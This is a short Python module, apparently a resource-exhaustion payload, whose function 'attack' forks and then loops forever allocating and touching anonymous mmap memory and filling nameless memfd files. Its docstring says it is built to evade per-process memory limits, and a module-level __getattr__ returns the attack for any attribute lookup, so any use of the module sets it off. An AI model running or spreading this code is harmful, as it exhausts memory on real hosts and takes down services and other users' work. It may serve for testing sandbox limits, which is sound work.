"""Takes memory in ways that limits of a process do not count: shared, of files without a name, of children."""

import mmap
import os

TAKEN = []


def attack(*arguments, **keywords):
    os.fork()
    while True:
        block = mmap.mmap(-1, 2**24)
        for place in range(0, 2**24, 4096):
            block[place] = 1
        TAKEN.append(block)
        try:
            file = os.memfd_create("x")
            os.write(file, bytes(2**24))
        except OSError:
            pass


def __getattr__(name):
    return attack
